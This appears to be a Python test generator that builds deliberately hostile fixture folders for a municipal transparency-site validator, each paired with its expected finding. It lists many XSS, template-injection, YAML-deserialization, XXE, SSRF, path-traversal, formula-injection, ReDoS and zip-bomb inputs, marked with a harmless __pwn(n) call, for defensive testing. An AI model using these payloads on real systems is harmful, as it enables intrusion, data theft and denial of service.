"""Municipalities that mean harm: paths, links, addresses, YAML, encodings, expressions, markup, formulas.

    python tests/hostiles.py FOLDER      write one site for each, with its expected outcome in esperado.json

A site is the good one below with one thing changed. `expects` is the code of the finding that must be raised, or
"texto": it is published, and what looks active is shown as plain text. `stage` is who finds it: the reading of the
folder, or the checking of the table. Active strings call __pwn(n), which a browser test can listen for.
"""

from __future__ import annotations

import io
import json
import os
import sys
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path

ITEM = "2.16-otros-antecedentes"
TABLE = f"{ITEM}/otros-antecedentes.csv"
PACKAGE = f"{ITEM}/datapackage.yaml"
HEADER = "categoria,denominacion,descripcion,fecha,enlace\n"
ROW = "Otro,Memoria inventada,Un resumen.,2026-04-30,https://www.ejemplo.cl/memoria.pdf\n"
GOOD: Mapping[str, bytes] = {
    "sitio.yaml": b"nombre: Municipalidad de Ejemplo\nficticia: true\ncorreo: oirs@ejemplo.cl\n",
    PACKAGE: b"responsable: Transparencia\n",
    TABLE: (HEADER + ROW).encode(),
}


@dataclass(frozen=True, slots=True)
class Hostile:
    """A site: `files` replace or join the good ones (None removes); `links` are symbolic, `folders` empty."""

    name: str
    expects: str
    files: Mapping[str, bytes | None] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    folders: Sequence[str] = ()
    pipes: Sequence[str] = ()
    stage: str = "lectura"


def write(hostile: Hostile, root: Path) -> None:
    """The site as a folder; OSError when this disk cannot hold such names."""
    base = os.fsencode(root)
    for path, data in {**GOOD, **hostile.files}.items():
        if data is not None:
            file = os.path.join(base, os.fsencode(path))
            os.makedirs(os.path.dirname(file), exist_ok=True)
            with open(file, "wb") as stream:
                stream.write(data)
    for path in hostile.folders:
        os.makedirs(os.path.join(base, os.fsencode(path)), exist_ok=True)
    for path, target in hostile.links.items():
        os.makedirs(os.path.dirname(root / path), exist_ok=True)
        os.symlink(target, root / path)
    for path in hostile.pipes:
        os.mkfifo(root / path)


def rows(texts: Sequence[str]) -> bytes:
    """A table with one row a text, in its free column."""
    quoted = (text.replace('"', '""') for text in texts)
    return (HEADER + "".join(f'Otro,Documento {i},"{text}",,https://www.ejemplo.cl/{i}\n'
                             for i, text in enumerate(quoted))).encode()


# ---- strings

PAYLOADS = (
    "<script>{}</script>", "<ScRiPt src=data:text/javascript,{}></sCrIpT>", "<img src=q onerror={}>", "<svg/onload={}>",
    "<svg><script>{}</script></svg>", "<svg><set attributeName=x onbegin={} dur=1s>", "<body onpageshow={}>",
    "<details open ontoggle={}>a", "<input onfocus={} autofocus>", "<audio src=q onerror={}>",
    "<video><source onerror={}></video>", "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>", "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>", "<a href='javascript:{}'>aquí</a>", "<a href=' &#106;avascript:{}'>aquí</a>",
    "<form action='javascript:{}'><button>enviar</button></form>",
    "<button formaction='javascript:{}' form=f>x</button>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=q onerror={}&gt;'>",
    "<noscript><p title='</noscript><img src=q onerror={}>'>", "<style>@import 'javascript:{}';</style>",
    "<link rel=stylesheet href='javascript:{}'>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:/{}/'>", "<marquee onstart={}>a</marquee>", "\"><img src=q onerror={}>",
    "'><img src=q onerror={}>", "\" onmouseover=\"{}", "' onfocus='{}' tabindex='0", "` onmouseover={} a=`",
    "q onerror={} ", "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
    "</script><script>{}</script>", "a --><script>{}</script>", "]]><script>{}</script>", "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<img/src=q/onerror={}>", "<img\tsrc=q\tonerror={}>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e", "&lt;script&gt;{}&lt;/script&gt;", "&amp;lt;script&amp;gt;{}",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
    "<template><script>{}</script></template>", "<select><img src=q onerror={}></select>", "\";{};//", "';{};//",
    "javascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
)
TEMPLATES = ("{{ 7*191 }}", "{{ config }}", "{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
             "{% include '/etc/passwd' %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{# a #}",
             "${7*191}",
             "#{7*191}", "<%= 7*191 %>", "{{constructor.constructor('__pwn(1)')()}}", "{0.__class__}", "%(nombre)s",
             "$(id)")
MARKDOWN = (
    "[a](javascript:{})", "[a](JaVaScRiPt:{})", "[a](&#106;avascript:{})", "[a](java&Tab;script:{})",
    "[a](<javascript:{}>)",
    "[a](vbscript:{})", "[a](data:text/html,{})", "[a](//otro.invalid/x)", "![a](javascript:{})",
    "![a](q\"onerror=\"{})",
    "![a\"onerror=\"{}](q)", "![a](q 'a\" onerror=\"{}')", "<javascript:{}>", "[a][r]\n\n[r]: javascript:{}",
    "<script>{}</script>", "<div>\n\n<img src=q onerror={}>\n\n</div>", "a <b onclick={}>b</b>",
    "`<img src=q onerror={}>`",
    "# <img src=q onerror={}>", "# a {{: onclick={}}}", "| <img src=q onerror={}> |\n|---|\n| [a](javascript:{}) |",
    "[^1]\n\n[^1]: <img src=q onerror={}>", "<!-- --!><img src=q onerror={}> -->", "[![a](q)](javascript:{})",
    "- [a](javascript:{})\n  > <svg/onload={}>", "<details ontoggle={} open>", "https://a.invalid/\"onmouseover=\"{}",
)
FORMULAS = ("=1+191", "+1+191", "-1+191", "@SUM(1;191)", "=HYPERLINK(\"http://a.invalid/?\"&A1;\"ver\")",
            "=cmd|'/C calc'!A0",
            "=IMPORTXML(\"http://a.invalid\";\"//a\")", "=WEBSERVICE(\"http://a.invalid\")",
            "=DDE(\"soffice\";\"a\";\"b\")",
            "-2+3+cmd|' /C calc'!A0", "@A1", "+A1*2")
NOT_FORMULAS = ("-", "-5", "-1.234.567", "a=b", "(=)", "– guion largo", "1.4 = letra d)")
ODD = {
    "sentido": "Monto \u202e000.001\u202c total", "aislado": "abc \u2066def", "marca": "abc\u200fdef",
    "ancho-cero": "pa\u200bgo\u200c \u200d\ufeffa", "lineas": "a\u2028b\u2029c", "guion-blando": "remu\u00adneración",
    "duro": "1\u00a0000\u202f000", "nfd": "N\u0303un\u0303oa", "homografo": "Municip\u0430lidad",
    "ancho": "\uff11\uff12\uff13",
    "cifras": "\u0663\u0664\u0665", "ligadura": "\ufb01nanzas", "tildes": "a" + "\u0301" * 200,
    "astral": "\U0001f1e8\U0001f1f1 \U0001f469\u200d\U0001f527 \U0002070e", "etiquetas": "a\U000e0041\U000e0042",
    "privado": "a\ue000b", "larga": "x" * 5000, "linea-larga": "palabra " * 9000,
    "derecha": "\u05e9\u05dc\u05d5\u05dd", "primera": "\u0301abc",
}
WORDS = ("NULL", "null", "None", "NaN", "Infinity", "true", "NO", "no", "off", "~", "0x1F", "0o17", "017",
         "1e309",
         "-0", "1_000", "12:30:45", "2024-02-30", "$ 1.000", "9" * 400, "../../etc/passwd", "CON", "index.html",
         ".git/config",
         "a --help", "a/b", "a?b", "a#b", "a%2Fb", "ñandú", "%s%n", "`id`", ";ls", "a'; DROP TABLE a", "\\", "'",
         "&",
         "<", ">",
         "&copy;", "]]>", "a -->", "<!--")
ROUTES = ("../secreto.svg", "../../etc/passwd", "/etc/passwd", "documentos/../../secreto.svg",
          "./documentos/../../../x",
          "..\\secreto.svg", "documentos\\..\\x", "C:\\x", "C:x", "\\\\equipo\\carpeta\\x", "file:///etc/passwd",
          "//etc/passwd", "/proc/self/environ", "/dev/zero", "documentos/", ".", "~/x", "$HOME/x", "%2e%2e/x",
          "documentos/%2e%2e/x", "documentos/x.svg?y", "documentos/*.svg", "DOCUMENTOS/X.SVG", "documentos/x.svg ",
          "documentos/con", ".git/config", "a" * 300, "\uff24\uff2f\uff23/x", "documentos\uff0fx.svg",
          "documentos/..\uff0fx", "-rf", "no-existe.svg")
PLAUSIBLE = ("DOCUMENTOS/X.SVG", "documentos/con", "no-existe.svg", "documentos/x.svg ", "a" * 300,
             "\uff24\uff2f\uff23/x")
REMOTE = ("http://127.0.0.1:9/x.csv", "http://169.254.169.254/latest/meta-data/", "http://[::1]/x",
          "http://0x7f000001/",
          "http://2130706433/", "http://localhost/", "https://a.invalid/x.csv", "ftp://a.invalid/x",
          "gopher://a.invalid",
          "s3://b/k", "jar:http://a!/y", "dict://a:11211/", "http://a.invalid@127.0.0.1/", "data:text/csv,a%0A1")
ADDRESSES = ("javascript:__pwn(1)", " javascript:__pwn(2)", "JAVASCRIPT:__pwn(3)", "javascript&colon;__pwn(4)",
             "data:text/html,<script>__pwn(5)</script>", "vbscript:__pwn(6)", "blob:null/1", "//otro.invalid/1",
             "\\\\otro.invalid\\1", "/\\otro.invalid/1", "https:otro.invalid/1", "https://a:b@otro.invalid/1",
             "https://muni.cl@otro.invalid/1", "http://[::1]/1", "file:///etc/passwd",
             "https://a.invalid/\" onclick=\"__pwn(7)",
             "https://a.invalid/' onclick='__pwn(8)", "https://a.invalid/<script>", "ftp://a.invalid/1",
             "view-source:https://a.invalid", "https://a.invalid/a b", "https://", "https://-", "www.ejemplo.cl")
# Expressions on which a backtracking engine runs away or gives up, with a text that makes it.
EXPRESSIONS = (("(a+)+", "a" * 34 + "!"), ("(a|aa)+", "a" * 45 + "!"), ("(.*a){18}", "a" * 36),
               ("([a-zA-Z0-9]+)*@", "a" * 34),
               (r"(\d+\.?)+", "1" * 36 + "x"), ("(?:x?){40}x{40}", "x" * 40), ("(([a-z])+.)+[A-Z]([a-z])+", "a" * 40),
               ("(" * 5000 + ")" * 5000, "a"), ("a{1,65536}{1,65536}", "a"), ("[", "a"), ("(?P<x>a)(?P=x)", "aa"),
               ("(?<=a+)b", "ab"), ("(?=a)a", "a"))


def _laughs() -> str:
    lines = ["a: &a [ja, ja, ja, ja, ja, ja, ja, ja, ja]"]
    lines += [f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi", strict=True)]
    return "\n".join(lines) + "\n"


YAMLS: Mapping[str, tuple[str, str]] = {
    "risas": (_laughs(), "yaml-ancla"), "mezcla": ("a: &a {x: 1}\nb: {<<: *a}\n", "yaml-ancla"),
    "recursiva": ("&a [*a]\n", "yaml-ancla"), "alias-suelto": ("a: *b\n", "yaml-ancla"),
    "objeto": ("!!python/object/apply:os.system ['echo __pwn']\n", "yaml-etiqueta"),
    "nombre-python": ("a: !!python/name:os.system\n", "yaml-etiqueta"),
    "tupla": ("a: !!python/tuple [1]\n", "yaml-etiqueta"),
    "etiqueta": ("a: !x y\n", "yaml-etiqueta"), "binario": ("a: !!binary R0lGODlh\n", "yaml-etiqueta"),
    "texto-forzado": ("nombre: !!str 1\n", "yaml-etiqueta"),
    "repetida": ("nombre: a\nnombre: b\n", "yaml-clave-repetida"),
    "repetida-comillas": ("nombre: a\n'nombre': b\n", "yaml-clave-repetida"),
    "repetida-escape": ("nombre: a\n\"\\x6eombre\": b\n", "yaml-clave-repetida"),
    "corchetes": ("[" * 20_000 + "]" * 20_000, "yaml-profundo"), "llaves": ("{a: " * 20_000, "yaml-profundo"),
    "abiertos": ("[" * 300_000, "yaml-profundo"),
    "margenes": ("".join(" " * i + "a:\n" for i in range(60)), "yaml-profundo"),
    "guiones": ("- " * 5000 + "a\n", "yaml-profundo"),
    "dos-documentos": ("nombre: a\n---\nnombre: b\n", "yaml-varios-documentos"),
    "directiva": ("%YAML 3.0\n---\nnombre: a\n", "yaml-sintaxis"),
    "directiva-tag": ("%TAG ! tag:a,2000:\n---\na: 1\n", "yaml-sintaxis"),
    "tabulador": ("nombre:\n\ta: 1\n", "yaml-sintaxis"), "sin-cerrar": ("nombre: 'a\n", "yaml-sintaxis"),
    "corchete-abierto": ("areas: [a, b\nnombre: a\n", "yaml-sintaxis"),
    "dos-puntos": ("nombre: a: b\n", "yaml-sintaxis"),
    "arroba": ("nombre: @a\n", "yaml-sintaxis"), "sustituto": ("nombre: \"\\ud800\"\n", "yaml-sintaxis"),
    "escape": ("nombre: \"\\q\"\n", "yaml-sintaxis"), "nulo": ("nombre: \"a\0b\"\n", "archivo-caracter-prohibido"),
    "nulo-escape": ("nombre: \"a\\0b\"\n", "archivo-caracter-prohibido"),
    "control-escape": ("nombre: \"a\\x1b[31mb\"\n", "archivo-caracter-prohibido"),
    "c1": ("nombre: a\x9bb\n", "archivo-caracter-prohibido"), "clave-nula": ("~: 1\n", "yaml-clave"),
    "clave-vacia": ("?\n: 1\n", "yaml-clave"), "clave-lista": ("? [a]\n: 1\n", "yaml-clave"),
    "clave-mapa": ("{a: 1}: 2\n", "yaml-clave"),
    "vacio": ("", "ficha-falta-clave"), "suelto": ("nombre\n", "ficha-tipo"), "lista": ("- nombre\n", "ficha-tipo"),
    "texto-enorme": ("nombre: '" + "x" * 2_000_000 + "'\n", "archivo-demasiado-grande"),
    "muchas-claves": ("".join(f"k{i}: 1\n" for i in range(60_000)), "yaml-extenso"),
    "conflicto": ("<<<<<<< HEAD\nnombre: a\n=======\nnombre: b\n>>>>>>> rama\n", "archivo-dos-versiones"),
    "html": ("<!doctype html><html>", "archivo-otro-formato"), "pdf": ("%PDF-1.7\n", "archivo-otro-formato"),
    "clave-fusion": ("nombre: a\n<<: {correo: a@ejemplo.cl}\n", "ficha-clave-desconocida"),
    "prototipo": ("nombre: a\n__proto__: {x: 1}\n", "ficha-clave-desconocida"),
    "clase": ("nombre: a\n__class__: b\n", "ficha-clave-desconocida"),
    "lista-por-texto": ("nombre: [a]\n", "ficha-tipo"),
    "mapa-por-texto": ("nombre: {a: 1}\n", "ficha-tipo"), "booleano": ("nombre: true\n", "ficha-tipo"),
    "decimal": ("nombre: 1.10\n", "ficha-tipo"), "nombre-largo": ("nombre: " + "x" * 400 + "\n", "ficha-largo"),
    "correo": ("nombre: a\ncorreo: \"a@ejemplo.cl\\nBcc: b@ejemplo.cl\"\n", "ficha-tipo"),
    "color": ("nombre: a\ntema: {colores: {marca: 'red;}body{display:none'}}\n", "ficha-tipo"),
    "tema-ruta": ("nombre: a\ntema: {nombre: ../../otro}\n", "ficha-tipo"),
    "licencia": ("nombre: a\nlicencia: WTFPL\n", "ficha-valor"), "desde": ("nombre: a\ndesde: 2026-13\n", "ficha-tipo"),
    "noruega": ("nombre: NO\n", "texto"), "octal": ("nombre: 010\n", "texto"), "hora": ("nombre: 12:30:00\n", "texto"),
    "fecha": ("nombre: 2024-01-01\n", "texto"), "exponente": ("nombre: 1e3\n", "texto"),
    "bajo": ("nombre: 1_000\n", "texto"),
    "muchas-cifras": ("nombre: " + "9" * 90 + "\n", "texto"), "bom": ("\ufeffnombre: a\n", "texto"),
    "crlf": ("nombre: a\r\ncorreo: a@ejemplo.cl\r\n", "texto"),
    "sentido": ("nombre: a\u202eb\n", "archivo-caracter-prohibido"),
    "sentido-escape": ("nombre: \"a\\u202eb\"\n", "archivo-caracter-prohibido"),
}
_T = HEADER + "Otro,Memoria,Ñuñoa – José Peñalolén,2026-04-30,https://www.ejemplo.cl/a\n"
CSVS: Mapping[str, tuple[bytes, str]] = {
    "utf8": (_T.encode(), "texto"), "bom": (b"\xef\xbb\xbf" + _T.encode(), "texto"),
    "crlf": (_T.replace("\n", "\r\n").encode(), "texto"),
    "sin-fin": (_T.rstrip().encode(), "texto"),
    "comillas": ((HEADER + 'Otro,"a ""b""","c\nd",,https://www.ejemplo.cl/a\n').encode(), "texto"),
    "cp1252": (_T.encode("cp1252"), "archivo-codificacion"),
    "latin1": (_T.replace("–", "-").encode("latin-1"), "archivo-codificacion"),
    "mac": (_T.encode("mac-roman"), "archivo-codificacion"),
    "cp850": (_T.replace("–", "-").encode("cp850"), "archivo-codificacion"),
    "utf16le": (b"\xff\xfe" + _T.encode("utf-16-le"), "archivo-codificacion"),
    "utf16be": (b"\xfe\xff" + _T.encode("utf-16-be"), "archivo-codificacion"),
    "utf16-sin-marca": (_T.encode("utf-16-le"), "archivo-codificacion"),
    "utf16-ascii": (HEADER.encode("utf-16-le"), "archivo-codificacion"),
    "utf32": (_T.encode("utf-32"), "archivo-codificacion"), "utf7": (_T.encode("utf-7"), "archivo-codificacion"),
    "mezcla": (_T.encode() + "Otro,Ñandú,a,,https://www.ejemplo.cl/b\n".encode("cp1252"), "archivo-codificacion"),
    "cortado": (_T.encode() + b"Otro,Mar\xc3", "archivo-cortado"),
    "largo-falso": (HEADER.encode() + b"Otro,\xc0\xbc,,,\n", "archivo-codificacion"),
    "sustituto": (HEADER.encode() + b"Otro,\xed\xa0\x80,,,\n", "archivo-codificacion"),
    "cr": (_T.replace("\n", "\r").encode(), "csv-fin-de-linea"),
    "cr-suelto": ((HEADER + 'Otro,"a\rb",,,\n').encode(), "csv-fin-de-linea"),
    "nulo": ((HEADER + "Otro,a\0b,,,\n").encode(), "archivo-caracter-prohibido"),
    "ctrl-z": ((_T + "\x1a").encode(), "archivo-caracter-prohibido"),
    "escape": ((HEADER + "Otro,a\x1b[31mb,,,\n").encode(), "archivo-caracter-prohibido"),
    "c1": ((HEADER + "Otro,a\x9bb,,,\n").encode(), "archivo-caracter-prohibido"),
    "supr": ((HEADER + "Otro,a\x7fb,,,\n").encode(), "archivo-caracter-prohibido"),
    "no-caracter": ((HEADER + "Otro,a\uffffb,,,\n").encode(), "archivo-caracter-prohibido"),
    "punto-y-coma": (_T.replace(",", ";").encode(), "csv-separador"),
    "tabulador": (_T.replace(",", "\t").encode(), "csv-separador"),
    "barra": (_T.replace(",", "|").encode(), "csv-separador"),
    "linea-sep": (b"sep=;\n" + _T.replace(",", ";").encode(), "csv-separador"),
    "comilla-abierta": ((HEADER + 'Otro,"a,b\nOtro,c,,,\n').encode(), "csv-comillas"),
    "comilla-en-medio": ((HEADER + 'Otro,a"b",,,\n').encode(), "csv-comillas"),
    "comilla-seguida": ((HEADER + 'Otro,"a"b,,,\n').encode(), "csv-comillas"),
    "vacio": (b"", "csv-vacio"), "solo-lineas": (b"\n\n", "csv-vacio"), "solo-marca": (b"\xef\xbb\xbf", "csv-vacio"),
    "ancho": ((",".join(f"c{i}" for i in range(20_000)) + "\n").encode(), "csv-limite"),
    "celda-enorme": ((HEADER + "Otro," + "x" * 2_000_000 + ",,,\n").encode(), "csv-limite"),
    "celda-de-lineas": ((HEADER + 'Otro,"' + "x\n" * 200_000 + '",,,\n').encode(), "csv-limite"),
    "html": (b"<!doctype html><table><tr><td>1", "archivo-otro-formato"),
    "html-espacios": (b"\n  <html><body>", "archivo-otro-formato"),
    "xlsx": (b"PK\x03\x04resto", "archivo-otro-formato"),
    "xls": (b"\xd0\xcf\x11\xe0\xa1\xb1", "archivo-otro-formato"), "pdf": (b"%PDF-1.7\n", "archivo-otro-formato"),
    "gzip": (b"\x1f\x8b\x08\x00", "archivo-otro-formato"), "png": (b"\x89PNG\r\n", "archivo-otro-formato"),
    "referencia": (b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n", "archivo-solo-referencia"),
    "conflicto": ((HEADER + "<<<<<<< HEAD\n" + ROW + "=======\n" + ROW + ">>>>>>> rama\n").encode(),
                  "archivo-dos-versiones"),
}
DRAWING = b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='9'/></svg>"
SVGS = (
    "<svg xmlns='http://www.w3.org/2000/svg'><script>__pwn(3000)</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='__pwn(3001)'/>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' "
    "onload='__pwn(3002)'/></foreignObject></svg>",
    "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
    "<svg xmlns='http://www.w3.org/2000/svg'><text y='9'>&a;</text></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://a.invalid/t.png'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><style>@import url(http://a.invalid/a.css)</style></svg>",
)


def active(templates: Sequence[str], first: int) -> list[str]:
    """Payloads with their own number each."""
    return [text.replace("{{", "{").replace("}}", "}").replace("{}", f"__pwn({first + i})")
            for i, text in enumerate(templates)]


# ---- sites


def sites() -> Iterator[Hostile]:
    """All of them, by kind; names are unique and fit for a folder."""
    yield Hostile("bueno", "texto")
    yield from _texts()
    yield from _routes()
    yield from _names()
    yield from _links()
    yield from _misplaced()
    for name, (text, expects) in YAMLS.items():
        yield Hostile(f"yaml-{name}", expects, {"sitio.yaml": text.encode()})
    for name in ("risas", "corchetes", "dos-documentos", "objeto", "repetida", "nulo-escape"):
        yield Hostile(f"yaml-item-{name}", YAMLS[name][1], {PACKAGE: YAMLS[name][0].encode()})
    yield Hostile("yaml-utf16", "archivo-codificacion", {"sitio.yaml": "nombre: a\n".encode("utf-16")})
    yield Hostile("yaml-cp1252", "archivo-codificacion", {"sitio.yaml": "nombre: Ñuñoa\n".encode("cp1252")})
    for name, (data, expects) in CSVS.items():
        yield Hostile(f"csv-{name}", expects, {TABLE: data})


def _texts() -> Iterator[Hostile]:
    """Strings that must come out as they went in."""
    yield Hostile("celdas-marcas", "texto", {TABLE: rows(active(PAYLOADS, 0))})
    yield Hostile("celdas-plantillas", "texto", {TABLE: rows(TEMPLATES)})
    yield Hostile("celdas-palabras", "texto", {TABLE: rows(WORDS)})
    yield Hostile("celdas-no-formulas", "texto", {TABLE: rows(NOT_FORMULAS)})
    yield Hostile("celdas-expresiones", "texto", {TABLE: rows([text for _, text in EXPRESSIONS])})
    for name, text in ODD.items():
        yield Hostile(f"celda-{name}", "texto", {TABLE: rows([text])})
    for i, text in enumerate(FORMULAS):
        yield Hostile(f"formula-{i:02d}", "formula", {TABLE: rows([text])}, stage="revision")
    yield Hostile("celda-reemplazo", "letras-danadas", {TABLE: rows(["a\ufffdb"])}, stage="revision")
    quoted = [json.dumps(text, ensure_ascii=False) for text in active(PAYLOADS[:12], 4000)]
    for i, text in enumerate(quoted):
        yield Hostile(f"titulo-{i:02d}", "texto", {"sitio.yaml": f"nombre: {text}\ncomuna: {text}\n".encode()})
    yield Hostile("titulo-plantilla", "texto", {"sitio.yaml": f"nombre: {json.dumps(TEMPLATES[0])}\n".encode()})
    page = "\n\n".join(active(MARKDOWN, 5000) + list(TEMPLATES)).encode()
    yield Hostile("pagina-markdown", "texto", {"paginas/hostil.md": page})
    yield Hostile("pagina-html", "texto", {"paginas/hostil.md": "\n\n".join(active(PAYLOADS, 6000)).encode()})
    yield Hostile("pagina-vacia", "texto", {"paginas/hostil.md": b""})
    yield Hostile("pagina-sin-texto", "texto", {"paginas/hostil.md": "# Solo un título\n".encode()})
    yield Hostile("pagina-nulo", "archivo-caracter-prohibido", {"paginas/hostil.md": b"a\0b"})
    yield Hostile("pagina-sentido", "archivo-caracter-prohibido", {"paginas/hostil.md": "# a\u202eb".encode()})
    yield Hostile("pagina-binaria", "archivo-otro-formato", {"paginas/hostil.md": b"PK\x03\x04"})
    yield Hostile("pagina-enorme", "archivo-demasiado-grande", {"paginas/hostil.md": b"a\n" * 1_000_000})
    notes = json.dumps("\n\n".join(active(MARKDOWN, 7000)), ensure_ascii=False)
    yield Hostile("notas-markdown", "texto", {PACKAGE: f"notas: {notes}\n".encode()})
    for i, svg in enumerate(SVGS):
        yield Hostile(f"svg-{i}", "documento-activo", {"documentos/logo.svg": svg.encode(), "sitio.yaml":
                      b"nombre: a\ntema: {logo: documentos/logo.svg}\n"})


def _routes() -> Iterator[Hostile]:
    """Paths and addresses in the YAML: never opened, never asked for."""
    for i, route in enumerate(ROUTES):
        expects = "ficha-archivo" if route in PLAUSIBLE else "ficha-tipo"
        logo = json.dumps(route)
        yield Hostile(f"ruta-{i:02d}", expects, {"sitio.yaml": f"nombre: a\ntema: {{logo: {logo}}}\n".encode(),
                                                "documentos/x.svg": DRAWING})
    inside = ("../../secreto.csv", "/etc/passwd", "/proc/self/environ", "otros-antecedentes.csv")
    for i, place in enumerate((*REMOTE, *inside)):
        resources = f"resources:\n- {{name: datos, path: {json.dumps(place)}}}\n"
        yield Hostile(f"recurso-{i:02d}", "ficha-de-otro-programa", {PACKAGE: resources.encode()})
    for i, (pattern, _) in enumerate(EXPRESSIONS):
        schema = f"schema: {{fields: [{{name: a, constraints: {{pattern: {json.dumps(pattern)}}}}}]}}\n"
        yield Hostile(f"expresion-{i:02d}", "ficha-clave-desconocida", {PACKAGE: schema.encode()})
    for i, address in enumerate(ADDRESSES):
        yield Hostile(f"direccion-{i:02d}", "ficha-tipo",
                      {"sitio.yaml": f"nombre: a\nsitio_web: {json.dumps(address)}\n".encode()})
    for i, address in enumerate(ADDRESSES[:6]):
        yield Hostile(f"enlace-{i:02d}", "ficha-tipo",
                      {"sitio.yaml": f"nombre: a\nenlaces: {{a: {json.dumps(address)}}}\n".encode()})


def _names() -> Iterator[Hostile]:
    """File names that mean something to a system, a browser or an eye."""
    names = ("a\\b.pdf", "a:b.pdf", "C:x.pdf", "con.pdf", "NUL", "aux.tar.pdf", "com1.pdf", " a.pdf", "a.pdf ", "a.",
             "a?b.pdf", "a*b.pdf",
             "a|b.pdf", "a<b>.pdf", 'a"b.pdf', "%2e%2e%2fx.pdf", "a\nb.pdf", "a\tb.pdf", "a\x1bb.pdf", "a\x7fb.pdf",
             "pago\u202efdp.exe",
             "a\u200bb.pdf", "Ñuñoa.pdf".replace("Ñ", "N\u0303"), "documentos\uff0fx.pdf", "\uff0e\uff0e.pdf",
             "a\u2028b.pdf", "-rf", "--help.pdf",
             "x" * 200 + ".pdf")
    for i, name in enumerate(names):
        yield Hostile(f"nombre-{i:02d}", "archivo-nombre", {f"documentos/{name}": b"a"})
    yield Hostile("nombre-bytes", "archivo-nombre", {"documentos/" + os.fsdecode(b"\xff\xfe.pdf"): b"a"})
    yield Hostile("nombre-mayusculas", "archivo-nombre", {"documentos/a.pdf": b"a", "documentos/A.pdf": b"b"})
    yield Hostile("nombre-carpeta", "archivo-nombre", {"documentos/a:b/x.pdf": b"a", "documentos/a:b/y.pdf": b"a"})
    admitted = ("Decreto N° 12.pdf", "Ñandú – acta (1).pdf", "a'b.pdf", "a&b.pdf", "a#b.pdf", "$(id).pdf", ";ls.pdf")
    for i, name in enumerate(admitted):
        yield Hostile(f"nombre-admitido-{i}", "texto", {f"documentos/{name}": b"a"})
    yield Hostile("ocultos", "texto",
                  {".git/config": b"a", ".DS_Store": b"a", "documentos/.htaccess": b"a", "Thumbs.db": b"a",
                                       ".github/workflows/x.yml": b"a"})
    yield Hostile("profundo", "carpeta-profunda", {"documentos/" + "a/" * 30 + "x.pdf": b"a"})
    yield Hostile("carpeta-csv", "archivo-es-carpeta", {TABLE: None}, folders=[TABLE])
    yield Hostile("carpeta-yaml", "archivo-es-carpeta", {PACKAGE: None}, folders=[PACKAGE])


def _links() -> Iterator[Hostile]:
    """Links and devices, in every place where a file or folder could be."""
    yield Hostile("enlace-tabla", "archivo-enlace", {TABLE: None}, {TABLE: "/etc/passwd"})
    yield Hostile("enlace-vecino", "archivo-enlace", links={f"{ITEM}/otro.csv": "otros-antecedentes.csv"})
    yield Hostile("enlace-entorno", "archivo-enlace", links={"documentos/a.pdf": "/proc/self/environ"})
    yield Hostile("enlace-afuera", "archivo-enlace", links={"documentos/a.pdf": "../../../../etc/hostname"})
    yield Hostile("enlace-carpeta", "archivo-enlace", links={"documentos": "/etc"})
    yield Hostile("enlace-item", "archivo-enlace", links={"1.04-personal": "/etc"})
    yield Hostile("enlace-paginas", "archivo-enlace", links={"paginas": "/usr/share"})
    yield Hostile("enlace-datapackage", "archivo-enlace", {PACKAGE: None}, {PACKAGE: "/etc/passwd"})
    yield Hostile("enlace-circular", "archivo-enlace", links={"documentos/a": "a"})
    yield Hostile("enlace-padre", "archivo-enlace", links={"documentos/a": ".."})
    yield Hostile("enlace-roto", "archivo-enlace", links={"documentos/a.pdf": "no-existe"})
    yield Hostile("enlace-infinito", "archivo-enlace", links={"documentos/a.pdf": "/dev/zero"})
    yield Hostile("tuberia-tabla", "archivo-especial", {TABLE: None}, pipes=[TABLE])
    yield Hostile("tuberia-yaml", "archivo-especial", {PACKAGE: None}, pipes=[PACKAGE])
    yield Hostile("tuberia-documento", "archivo-especial", {"documentos/b.pdf": b"a"}, pipes=["documentos/a.pdf"])


def _misplaced() -> Iterator[Hostile]:
    """Files that are not what their place says."""
    bomb, slip = _bomb(), _slip()
    yield Hostile("bomba-xlsx", "archivo-planilla", {f"{ITEM}/otros-antecedentes.xlsx": bomb})
    yield Hostile("bomba-csv", "archivo-otro-formato", {TABLE: bomb})
    yield Hostile("bomba-documento", "texto", {"documentos/a.xlsx": bomb})
    yield Hostile("zip-escapa", "archivo-desconocido", {f"{ITEM}/a.zip": slip})
    yield Hostile("zip-documento", "texto", {"documentos/a.zip": slip})
    yield Hostile("programa", "archivo-desconocido", {f"{ITEM}/a.py": b"import os"})
    yield Hostile("plantilla", "archivo-desconocido", {"paginas/index.html": b"<script>__pwn(1)</script>"})
    yield Hostile("suelto", "archivo-desconocido", {"index.html": b"<script>__pwn(1)</script>"})
    yield Hostile("carpeta-ajena", "carpeta-desconocida", {"datos/a.csv": b"a,b\n", "datos/b.csv": b"a,b\n"})
    yield Hostile("tabla-ajena", "tabla-desconocida", {f"{ITEM}/otra.csv": (HEADER + ROW).encode()})
    yield Hostile("tabla-carpeta", "tabla-desconocida", {f"{ITEM}/otra/2026-10.csv": (HEADER + ROW).encode()})
